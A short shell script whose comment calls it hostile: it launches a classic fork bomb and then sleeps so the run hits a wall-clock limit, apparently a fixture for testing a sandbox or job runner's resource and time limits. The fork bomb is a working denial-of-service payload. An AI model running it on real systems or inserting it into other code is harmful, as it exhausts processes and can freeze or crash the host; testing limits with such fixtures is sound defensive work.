#!/bin/sh
# Hostile: the classic fork bomb, then hang so the run lasts until the wall.
bomb() { bomb | bomb & }
bomb
sleep 1000
